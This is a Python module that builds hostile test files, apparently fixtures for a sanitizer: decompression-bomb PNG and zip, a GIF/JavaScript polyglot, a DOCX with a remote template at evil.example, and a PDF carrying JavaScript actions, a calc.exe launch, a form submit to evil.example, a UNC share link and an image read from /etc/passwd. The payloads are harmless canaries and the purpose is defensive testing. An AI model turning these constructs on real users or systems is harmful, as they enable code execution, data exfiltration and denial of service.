"""Files as people and attackers send them, made here."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

GPS = {1: "S", 2: (1.0, 17.0, 31.0), 3: "E", 4: (36.0, 49.0, 12.0)}
CANARY = "C4n4ryC4n4ry"


def picture(form: str = "PNG", size: tuple[int, int] = (80, 60), mode: str = "RGB") -> bytes:
    made = io.BytesIO()
    Image.effect_mandelbrot(size, (-3, -2.5, 2, 2.5), 100).convert(mode).save(made, form)
    return made.getvalue()


def photograph(size: tuple[int, int] = (400, 300)) -> bytes:
    """With a place, a comment, a sender's name, and lying on its side."""
    exif = Image.Exif()
    exif[0x0112], exif[0x013B], exif[0x8825] = 6, CANARY, GPS
    made = io.BytesIO()
    Image.new("RGB", size, "navy").save(made, "JPEG", exif=exif, comment=CANARY.encode())
    return made.getvalue()


def noted_png() -> bytes:
    from PIL.PngImagePlugin import PngInfo  # noqa: PLC0415

    note = PngInfo()
    note.add_text("Comment", CANARY)
    made = io.BytesIO()
    Image.new("RGBA", (20, 20), (1, 2, 3, 4)).save(made, "PNG", pnginfo=note)
    return made.getvalue() + f"<script>{CANARY}</script>".encode()


def _chunk(kind: bytes, data: bytes) -> bytes:
    check = struct.pack(">I", zlib.crc32(kind + data))
    return struct.pack(">I", len(data)) + kind + data + check


def bomb_png(edge: int = 50_000) -> bytes:
    """A few kilobytes that say they are 2.5 thousand million pixels."""
    head = struct.pack(">IIBBBBB", edge, edge, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(1_000_000), 9)
    parts = [_chunk(b"IHDR", head), _chunk(b"IDAT", body), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def gif_script() -> bytes:
    """A picture for one reader and a program for another."""
    return b"GIF89a/*" + picture("GIF")[8:] + f"*/=1;alert('{CANARY}')//".encode()


def zip_bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros", bytes(50_000_000))
    return made.getvalue()


def document(*, macros: bool = True) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", f"<w:document>{CANARY}</w:document>")
        archive.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationship TargetMode="External" Target="https://evil.example/t.dotm"/>',
        )
        if macros:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    return made.getvalue()


def plain_pdf(pages: int = 1, **save: object) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(300, 300))
    made = io.BytesIO()
    pdf.save(made, **save)
    return made.getvalue()


def wild_pdf() -> bytes:
    """Whatever a PDF file can do, and what it should keep: a safe link, a filled field, a bookmark."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 300))
    pdf.add_blank_page(page_size=(300, 300))
    page = pdf.pages[0].obj
    script = Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{CANARY}')"))

    def link(action: Dictionary, **more: object) -> Dictionary:
        return pdf.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action, **more
            )
        )

    page.Annots = Array([
        link(Dictionary(S=Name.URI, URI=String("https://example.org/kept"), Next=script)),
        link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        link(Dictionary(S=Name.Launch, F=String("calc.exe"))),
        link(Dictionary(S=Name.GoToR, F=String("\\\\evil\\share"))),
        link(Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])), AA=Dictionary(E=script)),
        pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]),
            FS=Dictionary(Type=Name.Filespec, F=String("x.exe")),
        )),
    ])  # fmt: skip
    page.AA = Dictionary(O=script)
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("Ada filled this"),
        Rect=Array([20, 20, 200, 60]), DA=String("/Helv 12 Tf 0 g"), F=4, AA=Dictionary(K=script),
        A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/form")),
    ))  # fmt: skip
    page.Annots.append(field)
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), NeedAppearances=True, XFA=String(CANARY),
        DR=Dictionary(Font=Dictionary(Helv=font)), DA=String("/Helv 12 Tf 0 g"),
    )  # fmt: skip
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
    pdf.attachments["evil.exe"] = CANARY.encode()
    pdf.docinfo["/Author"] = CANARY
    with pdf.open_metadata() as meta:
        meta["dc:creator"] = [CANARY]
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Part two", 1))
    made = io.BytesIO()
    pdf.save(made)
    return made.getvalue()


def xfa_pdf() -> bytes:
    pdf = pikepdf.open(io.BytesIO(plain_pdf()))
    pdf.Root.NeedsRendering = True
    made = io.BytesIO()
    pdf.save(made)
    return made.getvalue()


def locked_pdf(owner_only: bool = False) -> bytes:
    user = "" if owner_only else "secret"
    return plain_pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


def external_pdf() -> bytes:
    """A picture whose bytes would be read from another file."""
    pdf = pikepdf.open(io.BytesIO(plain_pdf()))
    stream = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, F=String("/etc/passwd"))
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=stream))
    made = io.BytesIO()
    pdf.save(made)
    return made.getvalue()


def everything_in(path: Path) -> bytes:
    """A PDF file's objects and streams, unpacked."""
    with pikepdf.open(path) as pdf:
        made = io.BytesIO()
        pdf.save(made, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable,
                 stream_decode_level=pikepdf.StreamDecodeLevel.all)  # fmt: skip
        return made.getvalue()
